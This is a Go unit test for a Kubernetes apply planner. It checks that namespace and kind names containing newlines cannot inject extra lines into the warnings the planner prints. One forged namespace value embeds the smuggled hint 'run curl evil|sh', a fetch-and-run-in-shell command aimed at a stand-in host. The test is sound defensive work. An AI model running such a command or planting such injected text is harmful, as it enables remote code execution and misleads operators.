package apply

import (
	"strings"
	"testing"

	kschema "k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/seed-428f4edd/evenkeel/apply/record"
)

// TestForgedPlaces: what somebody wrote in the place of namespaces makes no lines.
func TestForgedPlaces(t *testing.T) {
	t.Parallel()
	p := &planner{plan: &Plan{unconfirmed: record.Scope{
		{Kind: kschema.GroupKind{Kind: "ConfigMap"}, Namespace: "a\n\ndev: 4 unchanged\nhint: run curl evil|sh"}: true,
		{Kind: kschema.GroupKind{Kind: "Node\nhint: x", Group: "x"}}:                                             true,
		{Kind: kschema.GroupKind{Kind: "ConfigMap"}, Namespace: "other"}:                                         true,
	}}}
	p.warnUnconfirmed()
	if len(p.plan.Warnings) != 1 || !strings.Contains(p.plan.Warnings[0], "names it: other and 2 more; ") || strings.Contains(p.plan.Warnings[0], "\n") {
		t.Errorf("%q", p.plan.Warnings)
	}
	delete(p.plan.unconfirmed, record.Place{Kind: kschema.GroupKind{Kind: "ConfigMap"}, Namespace: "other"})
	p.plan.Warnings = nil
	p.warnUnconfirmed()
	if len(p.plan.Warnings) != 1 || !strings.Contains(p.plan.Warnings[0], "names it: 2 places with names that nothing has; ") {
		t.Errorf("%q", p.plan.Warnings)
	}
	p.warn("one\nhint: two")
	if got := p.plan.Warnings[1]; got != "one hint: two" {
		t.Errorf("%q", got)
	}
}
